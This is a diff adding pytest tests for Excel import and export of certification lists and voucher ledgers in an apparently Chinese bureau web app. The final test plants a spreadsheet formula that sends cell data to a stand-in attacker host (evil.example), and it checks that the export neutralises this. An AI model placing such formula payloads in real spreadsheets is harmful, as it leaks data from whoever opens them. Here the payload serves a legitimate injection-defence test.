@@ -1,6 +1,7 @@
 """Bureau staff bring certification lists in from Excel and take a pool's ledger out to Excel."""
 
 import io
+import zipfile
 from datetime import date
 
 import pytest
@@ -125,3 +126,76 @@ def test_only_staff_of_the_pools_jurisdiction_export_its_ledger(
     for outsider in (enterprise_user, other_city_staff, staff_in("220000", Duty.AUDIT_ADMIN)):
         client.force_login(outsider)
         assert client.get(url).status_code == 404
+
+
+def test_the_list_format_stays_chinese_for_english_users_and_tolerates_what_excel_does(
+    client, cc_staff, enterprise
+):
+    """An English page, a blank row, a number Excel made numeric, dates as Chinese Windows writes them."""
+    other = OrganisationFactory(region_id="220106")
+    client.force_login(cc_staff)
+    client.post("/i18n/setlang/", {"language": "en"})
+    upload = _list_from_template(
+        client,
+        [
+            [enterprise.credit_code, "高新技术企业", "GR1", "2026/1/1", "2028年12月31日"],
+            [None, None, None, None, None],
+            [other.credit_code, "科技型中小企业", 202622010400789, "2026-05-01", "2027-04-30"],
+        ],
+    )
+    assert _import(client, upload) == ["Imported 2 certifications."]
+    assert Certification.objects.get(organisation=other).number == "202622010400789"
+    assert Certification.objects.get(organisation=enterprise).valid_from == date(2026, 1, 1)
+
+
+def test_an_error_after_a_blank_row_names_the_right_sheet_row(client, cc_staff, enterprise):
+    client.force_login(cc_staff)
+    upload = _list_from_template(
+        client,
+        [
+            [enterprise.credit_code, "高新技术企业", "GR1", "2026-01-01", "2028-12-31"],
+            [None] * 5,
+            [enterprise.credit_code, "专精特新", "GR2", "2026-01-01", "2028-12-31"],
+        ],
+    )
+    (message,) = _import(client, upload)
+    assert "第4行" in message and "认定类型不正确" in message
+    assert not Certification.objects.exists()
+
+
+def test_a_credit_code_excel_turned_into_a_number_is_refused_with_the_reason(client, cc_staff):
+    client.force_login(cc_staff)
+    upload = _list_from_template(
+        client, [[912201041234567890, "高新技术企业", "GR1", "2026-01-01", "2028-12-31"]]
+    )
+    (message,) = _import(client, upload)
+    assert "第2行" in message and "被存成了数字" in message
+    assert not Certification.objects.exists()
+
+
+def test_a_damaged_workbook_is_refused_in_chinese(client, cc_staff):
+    client.force_login(cc_staff)
+    damaged = io.BytesIO()
+    with zipfile.ZipFile(damaged, "w") as archive:
+        archive.writestr("[Content_Types].xml", "not xml")
+        archive.writestr("xl/workbook.xml", "not xml either")
+    damaged.seek(0)
+    damaged.name = "名单.xlsx"
+    (message,) = _import(client, damaged)
+    assert "文件已损坏或格式不正确" in message
+
+
+def test_only_bureau_staff_may_upload_a_list(client, enterprise_user):
+    client.force_login(enterprise_user)
+    upload = io.BytesIO("统一社会信用代码\n".encode())
+    upload.name = "x.csv"
+    assert client.post(reverse("vouchers:office_certification_import"), {"file": upload}).status_code == 403
+
+
+def test_text_from_users_is_exported_as_text_not_as_a_formula(client, cc_staff, pool, voucher, enterprise):
+    enterprise.name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    enterprise.save()
+    client.force_login(cc_staff)
+    book = load_workbook(io.BytesIO(client.get(reverse("vouchers:ledger_export", args=[pool.pk])).content))
+    cell = book["台账明细"]["E4"]
+    assert cell.data_type == "s" and cell.value.endswith('"点击")')
